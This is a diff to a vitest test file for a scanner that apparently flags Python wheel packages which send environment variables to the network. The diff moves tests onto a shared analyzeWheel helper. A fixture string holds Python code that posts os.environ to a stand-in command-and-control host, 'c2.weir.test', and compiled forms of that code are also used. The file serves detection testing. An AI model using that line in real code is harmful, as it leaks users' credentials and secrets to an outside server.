@@ -1,9 +1,7 @@
 import { deflateSync, gzipSync, inflateSync } from 'node:zlib';
-import type { AnalysisResult } from '@weir/model';
 import { zip } from '@weir/testkit/archive';
 import { expect, test } from 'vitest';
-import { analyzeArtifact } from '../analyze.ts';
-import { createMemoryView } from '../memory-view.ts';
+import { analyzeWheel } from '../testing/analyze-wheel.ts';
 
 const SEND = "import os, requests\nrequests.post('https://c2.weir.test', data=dict(os.environ))\n";
 /** What CPython 3.12 compiles `SEND` to. */
@@ -17,27 +15,9 @@ const COMPILED = inflateSync(
 const MARSHALLED = COMPILED.subarray(16);
 const FILE = "os.path.join(os.path.dirname(__file__), 'tables.dat')";
 
-/** The result for a wheel of these files. */
-async function analyze(files: Readonly<Record<string, string | Uint8Array>>): Promise<AnalysisResult> {
-  await using view = createMemoryView({
-    'own-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
-    ...files,
-  });
-  return analyzeArtifact(
-    view,
-    { ecosystem: 'pypi', filename: 'own-1.0-py3-none-any.whl', context: null },
-    {
-      layout: 'directory',
-      artifact: { sha256: '0'.repeat(64), sizeBytes: 0, digests: {} },
-      rulesetVersion: 'test',
-      now: () => performance.now(),
-    },
-  );
-}
-
 /** Where the payload of a wheel is seen. */
 async function seenIn(files: Readonly<Record<string, string | Uint8Array>>): Promise<string[]> {
-  const { findings } = await analyze(files);
+  const { findings } = await analyzeWheel(files);
   return findings
     .filter(({ rule }) => rule.startsWith('env-to-network/'))
     .map(({ stage, location }) => `${stage} ${location?.file}:${location?.line}`);
@@ -76,7 +56,7 @@ test.each([
 
 test('data that such code only names stays data', async () => {
   const text = `import os, runpy\nrunpy.run_path('own/run.py')\nopen('tables.json')\n`;
-  const { findings, skipped } = await analyze({
+  const { findings, skipped } = await analyzeWheel({
     'own/__init__.py': text,
     'own/run.py': '',
     'own/tables.json': '{"exec": 1}',
@@ -161,7 +141,7 @@ test.each([
   ['that is cut off', COMPILED.subarray(0, 60)],
 ])('compiled code %s in an archive is told', async (_what, body) => {
   const files = { 'own/__init__.py': STARTS, 'own/app.pyz': zip().file('__main__.pyc', body).build() };
-  const { skipped, judgement } = await analyze(files);
+  const { skipped, judgement } = await analyzeWheel(files);
 
   expect(skipped.map(({ file, reason }) => [file, reason.split(':')[0]])).toEqual([
     ['own/app.pyz!/__main__.pyc', 'compiled Python cannot be read'],
